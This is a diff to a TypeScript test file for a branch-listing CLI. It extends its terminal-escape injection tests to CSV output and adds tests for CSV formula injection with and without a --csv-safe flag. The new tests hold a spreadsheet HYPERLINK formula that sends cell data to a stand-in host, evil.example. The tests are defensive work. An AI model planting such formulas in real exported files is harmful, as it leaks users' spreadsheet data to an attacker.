@@ -190,12 +190,12 @@ const steeringBranch = {
 const steeringPage = jsonAnswer({ values: [steeringBranch] });
 
 describe('text that could steer a terminal', { concurrency: 3 }, () => {
-  for (const format of ['table', 'tsv', 'names', 'json', 'jsonl']) {
+  for (const format of ['table', 'tsv', 'names', 'json', 'jsonl', 'csv']) {
     test(`is spelled out on a terminal as ${format}`, async (t) => {
       const { onTerminal } = await branchesAt(t, steeringPage, ['--format', format]);
       const { exitCode, stdout } = await onTerminal();
       assert.equal(exitCode, 0, stdout);
-      const shown = stdout.replaceAll('\r\n', '\n');
+      const shown = stdout.replace(/\r+\n/g, '\n');
       assert.doesNotMatch(shown, harmful);
       assert.match(shown, /\\u001b\[2J/);
     });
@@ -238,7 +238,7 @@ describe('text that could steer a terminal', { concurrency: 3 }, () => {
       const { onTerminal } = await branchesAt(t, answer, ['--verbose']);
       const { exitCode, stdout } = await onTerminal();
       assert.ok(exitCode !== 0 && exitCode !== 1, stdout);
-      assert.doesNotMatch(stdout.replaceAll('\r\n', '\n'), harmful);
+      assert.doesNotMatch(stdout.replace(/\r+\n/g, '\n'), harmful);
     });
   }
 });
@@ -308,3 +308,25 @@ describe('a document that means harm', { concurrency: 3 }, () => {
     assert.equal((await piped()).stdout, 'a\ufffdb\n');
   });
 });
+
+/** What a spreadsheet would run, in the cells of every column. */
+const formula = '=HYPERLINK("http://evil.example?"&A1,"x")';
+
+for (const [flags, cell] of [
+  [['--csv-safe'], `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
+  [[], `"=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
+] as const) {
+  test(`a formula in csv ${flags.length === 0 ? 'is as it is' : 'is none with --csv-safe'}`, async (t) => {
+    const page = jsonAnswer({ values: [{ name: formula }, { name: '-1' }, { name: '@x' }] });
+    const { piped } = await branchesAt(t, page, ['--format', 'csv', ...flags]);
+    const { exitCode, stdout, stderr } = await piped();
+    assert.equal(exitCode, 0, stderr);
+    const cells = stdout.split('\r\n').slice(1, -1);
+    assert.ok(cells[0]?.startsWith(cell), stdout);
+    if (flags.length > 0)
+      assert.ok(
+        cells.every((line) => /^"?'/.test(line)),
+        stdout,
+      );
+  });
+}
